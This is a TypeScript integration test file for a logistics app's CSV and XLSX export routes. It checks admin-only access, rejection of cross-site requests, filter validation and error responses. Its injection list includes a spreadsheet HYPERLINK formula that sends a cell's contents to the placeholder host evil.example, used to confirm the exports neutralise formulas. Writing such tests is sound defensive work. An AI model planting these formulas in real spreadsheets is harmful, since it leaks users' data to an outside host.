import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { EXPORT_COUNT_CAP, MAX_UPLOAD_BYTES } from '@tracetrack/shared';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApp } from '../../server/src/app';
import { createParentBag, createLooseChild, nextBillNumber } from '../factories/bills';
import { createStaff } from '../factories/users';
import { parseCsv, parseXlsx } from '../helpers/exports';
import { sessionCookieFor } from '../helpers/http';
import { createTestApp, type TestApp } from '../helpers/test-app';

let t: TestApp;
let staff: Awaited<ReturnType<typeof createStaff>>;
let app: ReturnType<typeof createApp>;
let adminCookie: string;
const INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+SUM(1,2)', '-2+3', '@SUM(A1:A2)', '\tTAB', '\rCR'];

beforeAll(async () => {
  t = await createTestApp();
  staff = await createStaff(t.deps.db);
  app = createApp(t.deps);
  adminCookie = await sessionCookieFor(t.deps, staff.admin.id);
});
afterAll(() => t.close());

const get = (url: string, cookie: string | null = adminCookie, headers: Record<string, string> = {}) =>
  app.request(url, { headers: { ...(cookie ? { cookie } : {}), ...headers } });

describe('bill exports', () => {
  let billNumber: string;
  beforeAll(async () => {
    billNumber = nextBillNumber('INJ');
    const admin = t.as(staff.admin);
    await admin.bill.create({ billNumber, capacity: 3, destination: INJECTIONS[0], description: INJECTIONS[1], vehicleNumber: INJECTIONS[3] });
    const p1 = await createParentBag(t.deps.db, { children: 30 });
    const p2 = await createParentBag(t.deps.db, { format: 'M444', children: 7 });
    await admin.bill.addParent({ billNumber, parentCode: p1.code });
    await admin.bill.addParent({ billNumber, parentCode: p2.code });
  });

  it('neutralises formulas in text cells of CSV and XLSX, and keeps numbers numbers', async () => {
    const filter = `?search=${encodeURIComponent(billNumber)}`;
    const csv = await get(`/api/exports/bills.csv${filter}`);
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(csv.headers.get('content-disposition')).toMatch(new RegExp(`^attachment; filename="bills_search-${billNumber}_\\d{8}-\\d{4}\\.csv"$`));
    const records = await parseCsv(csv.body!);
    const header = records[0]!;
    const row = Object.fromEntries(header.map((h, i) => [h, records[1]![i]]));
    expect(records).toHaveLength(2);
    expect(row['Destination']).toBe(`'${INJECTIONS[0]}`);
    expect(row['Description']).toBe(`'${INJECTIONS[1]}`);
    expect(row['Vehicle']).toBe(`'${INJECTIONS[3]}`);
    expect(row['Variance (kg)']).toBe(String(37 - 45));

    const xlsx = await get(`/api/exports/bills.xlsx${filter}`);
    expect(xlsx.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const [sheet] = await parseXlsx(Buffer.from(await xlsx.arrayBuffer()));
    expect(sheet!.formulas).toBe(0);
    const cells = Object.fromEntries(sheet!.rows[0]!.map((h, i) => [h, sheet!.rows[1]![i]]));
    expect(cells['Destination']).toBe(`'${INJECTIONS[0]}`);
    expect(cells['Description']).toBe(`'${INJECTIONS[1]}`);
    expect(cells['Variance (kg)']).toBe(-8);
    expect(cells['Actual (kg)']).toBe(37);
  });

  it('every formula lead (= + - @ tab CR) is neutralised', async () => {
    for (const [i, text] of INJECTIONS.entries()) {
      const number = nextBillNumber(`INJ${i}`);
      await t.as(staff.admin).bill.create({ billNumber: number, capacity: 1, description: `x${i}` });
      // Tab and CR are stripped by the API's trim, so they are written straight into the row.
      await sql`update bills set destination = ${text} where bill_number = ${number}`.execute(t.deps.db);
      const records = await parseCsv((await get(`/api/exports/bills.csv?search=${encodeURIComponent(number)}`)).body!);
      expect(records[1]![records[0]!.indexOf('Destination')]).toBe(`'${text}`);
    }
  });

  it('exports one bill\'s manifest: the bill, its parents with weights, every child, and the parents returned from it', async () => {
    const res = await get(`/api/exports/bill/${encodeURIComponent(billNumber)}.csv`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toContain(`bill_bill-${billNumber}_`);
    const records = await parseCsv(res.body!);
    const titles = records.filter((r) => r.length === 1 && r[0] !== '').map((r) => r[0]);
    expect(titles).toEqual(['Bill', 'Parents', 'Children', 'Returns']);
    const children = records.slice(records.findIndex((r) => r[0] === 'Children') + 2).filter((r) => r.length === 3);
    expect(children).toHaveLength(37);

    const sheets = await parseXlsx(Buffer.from(await (await get(`/api/exports/bill/${encodeURIComponent(billNumber)}.xlsx`)).arrayBuffer()));
    expect(sheets.map((s) => s.name)).toEqual(['Bill', 'Parents', 'Children', 'Returns']);
    expect(sheets[1]!.rows.slice(1).map((r) => [r[2], r[5], r[6], r[7]])).toEqual(expect.arrayContaining([[30, 30, 30, 0], [7, 7, 15, -8]]));
    expect(sheets[2]!.rows).toHaveLength(38);

    // Bill numbers may hold / and . (encoded in the link).
    const odd = 'ODD/2026.1';
    await t.as(staff.admin).bill.create({ billNumber: odd, capacity: 1 });
    const oddRes = await get(`/api/exports/bill/${encodeURIComponent(odd)}.csv`);
    expect(oddRes.status).toBe(200);
    expect(oddRes.headers.get('content-disposition')).toContain('bill_bill-ODD-2026-1_');
    expect((await parseCsv(oddRes.body!))[2]![0]).toBe(odd);

    const missing = await get('/api/exports/bill/NO-SUCH-BILL.csv');
    expect(missing.status).toBe(404);
    expect(await missing.json()).toMatchObject({ error: { data: { appCode: 'BILL_NOT_FOUND' } } });
  });
});

describe('bag exports and counts', () => {
  it('use the bag list\'s filter, including partial code search, and count the same rows', async () => {
    const parent = await createParentBag(t.deps.db, { code: 'SB77001', children: 3, area: 'hisar' });
    await createLooseChild(t.deps.db, 'QXZ77001', 'hisar');
    const filter = { code: 'z7700', codeMatch: 'contains' as const };
    const list = await t.as(staff.admin).bag.list({ ...filter, limit: 200 });
    const count = await t.as(staff.admin).export.count({ kind: 'bags', filter });
    const records = await parseCsv((await get('/api/exports/bags.csv?code=z7700&codeMatch=contains')).body!);
    expect(records.slice(1).map((r) => r[0])).toEqual(list.items.map((b) => b.code));
    expect(count).toEqual({ count: list.items.length, isCapped: false });
    expect(list.items.map((b) => b.code)).toEqual(['QXZ77001']);
    const contains = await t.as(staff.admin).bag.list({ code: '77001', limit: 200 });
    expect(contains.items.map((b) => b.code).sort()).toEqual([...parent.childCodes, 'QXZ77001', 'SB77001'].sort());

    const prefix = await parseCsv((await get('/api/exports/bags.csv?code=sb770&codeMatch=prefix&type=parent&linked=true')).body!);
    expect(prefix.slice(1).map((r) => r[0])).toEqual(['SB77001']);
    expect(EXPORT_COUNT_CAP).toBeGreaterThan(1000);
  });

  it('refuses a filter the list would refuse, with 400 JSON naming the field', async () => {
    for (const query of ['linked=maybe', 'type=sack', 'code=ab', 'from=yesterday', 'area=x%27', `scannedBy=${'a'.repeat(30)}`]) {
      const res = await get(`/api/exports/bags.csv?${query}`);
      expect([query, res.status]).toEqual([query, 400]);
      const body = await res.json();
      expect(body.error.data.appCode).toBe('VALIDATION');
      expect(Object.keys(body.error.data.details.fieldErrors)).toEqual([query.split('=')[0]]);
    }
  });
});

describe('who may download', () => {
  const routes = ['/api/exports/bags.csv', '/api/exports/bills.xlsx', '/api/exports/users.csv', '/api/exports/audit.xlsx', '/api/exports/eod.csv?date=2026-01-05', '/api/exports/bill/NO-SUCH.csv'];
  it.each(routes)('%s: admins only (403 for billers and dispatchers, 401 signed out)', async (route) => {
    for (const role of ['biller', 'dispatcher'] as const) {
      const res = await get(route, await sessionCookieFor(t.deps, staff[role].id));
      expect(res.status).toBe(403);
      expect(await res.json()).toMatchObject({ error: { message: 'Only admins can do this.', data: { appCode: 'FORBIDDEN' } } });
    }
    const anonymous = await get(route, null);
    expect(anonymous.status).toBe(401);
    expect(await anonymous.json()).toMatchObject({ error: { data: { appCode: 'UNAUTHENTICATED' } } });
    expect((await get(route)).status).toBe(route.includes('NO-SUCH') ? 404 : 200);
  });

  it('refuses a download requested by another site', async () => {
    const res = await get('/api/exports/bags.csv', adminCookie, { origin: 'https://evil.example' });
    expect(res.status).toBe(403);
  });
});

describe('paths that are not pages', () => {
  let shellApp: ReturnType<typeof createApp>;
  beforeAll(() => {
    const dist = mkdtempSync(path.join(tmpdir(), 'tt-dist-'));
    writeFileSync(path.join(dist, 'index.html'), '<!doctype html><title>shell</title>');
    shellApp = createApp({ ...t.deps, config: { ...t.deps.config, clientDist: dist } });
  });

  it.each(['/api/nothing', '/api/exports/sacks.csv', '/api/exports/bags.pdf', '/api/exports/bill/X', '/trpc/bag.explode', '/trpc/'])('GET %s is a 404 in JSON, not the app shell', async (url) => {
    const res = await shellApp.request(url, { headers: { cookie: adminCookie } });
    expect(res.status).toBe(404);
    expect(res.headers.get('content-type')).toContain('application/json');
  });

  it('still serves the app shell for the PWA\'s own routes', async () => {
    const res = await shellApp.request('/bills/ABC');
    expect(res.status).toBe(200);
    expect(await res.text()).toContain('<title>shell</title>');
  });

  // Uploads to /api/imports check their own size as they stream (imports.test.ts); every other
  // /api path is held to the same 16 MB by the body limit, before it is routed.
  it('answers any other /api body over 16 MB with 413 JSON', async () => {
    const body = new Uint8Array(MAX_UPLOAD_BYTES + 1);
    const res = await shellApp.request('/api/exports/bags', { method: 'POST', body, headers: { cookie: adminCookie, 'content-type': 'application/octet-stream' } });
    expect(res.status).toBe(413);
    expect(await res.json()).toMatchObject({ error: { data: { appCode: 'VALIDATION' } } });
  });
});

describe('user activity', () => {
  it('lists users with their scans over the last N days', async () => {
    const dispatcher = t.as(staff.dispatcher);
    await dispatcher.bag.scanParent({ code: 'SB78001' });
    await dispatcher.bag.linkChild({ parentCode: 'SB78001', childCode: 'UA78001' });
    await dispatcher.bag.linkChild({ parentCode: 'SB99998', childCode: 'UA78002' }).catch(() => null);
    const records = await parseCsv((await get(`/api/exports/users.csv?search=${staff.dispatcher.username}&days=7`)).body!);
    const header = records[0]!;
    expect(header).toContain('Scans (last 7 days)');
    const row = Object.fromEntries(header.map((h, i) => [h, records[1]![i]]));
    expect(row).toMatchObject({ Username: staff.dispatcher.username, 'Scans (last 7 days)': '3', 'Refused scans (last 7 days)': '1' });
    expect(records).toHaveLength(2);
  });
});

describe('users with boolean filters', () => {
  it('take the user list\'s yes/no filters from the query string, and count the same rows', async () => {
    const admin = t.as(staff.admin);
    const records = await parseCsv((await get('/api/exports/users.csv?isDeactivated=false&isLocked=false&hasTwoFactor=false')).body!);
    const counted = await admin.export.count({ kind: 'users', filter: { isDeactivated: false, isLocked: false, hasTwoFactor: false } });
    expect(records.length - 1).toBe(counted.count);
    expect(counted.count).toBeGreaterThan(0);
    const bad = await get('/api/exports/users.csv?isLocked=perhaps');
    expect(bad.status).toBe(400);
    expect(await bad.json()).toMatchObject({ error: { data: { appCode: 'VALIDATION' } } });
  });
});

describe('audit log exports', () => {
  it('hold what the audit screen lists for the same filters, newest first, and the count agrees', async () => {
    const admin = t.as(staff.admin);
    const billNumber = nextBillNumber('AUD');
    await admin.bill.create({ billNumber, capacity: 2 });
    await admin.bill.update({ billNumber, destination: 'Nagpur depot' });
    const filters = { entityType: 'bill' as const, entityKey: billNumber };
    const listed = await admin.audit.list({ filters });
    expect(listed.items.map((e) => e.action)).toEqual(['bill.update', 'bill.create']);

    const records = await parseCsv((await get(`/api/exports/audit.csv?entityType=bill&entityKey=${billNumber}`)).body!);
    const header = records[0]!;
    const rows = records.slice(1).map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
    expect(rows.map((r) => r['Action'])).toEqual(['bill.update', 'bill.create']);
    expect(rows.every((r) => r['Entity'] === billNumber && r['User'] === staff.admin.username)).toBe(true);
    expect(JSON.parse(rows[0]!['After']!)).toMatchObject({ destination: 'Nagpur depot' });
    expect(await admin.export.count({ kind: 'audit', filter: filters })).toEqual({ count: 2, isCapped: false });

    const xlsx = await get(`/api/exports/audit.xlsx?entityType=bill&entityKey=${billNumber}`);
    const [sheet] = await parseXlsx(Buffer.from(await xlsx.arrayBuffer()));
    expect(sheet!.rows.length).toBe(3);
  });

  it('of an entity that does not exist are empty, and a bad filter is a 400 naming the field', async () => {
    const records = await parseCsv((await get('/api/exports/audit.csv?entityType=bill&entityKey=NO-SUCH-BILL')).body!);
    expect(records).toHaveLength(1);
    const bad = await get('/api/exports/audit.csv?from=yesterday');
    expect(bad.status).toBe(400);
    expect(await bad.json()).toMatchObject({ error: { data: { appCode: 'VALIDATION', details: { fieldErrors: { from: expect.any(Array) } } } } });
  });
});
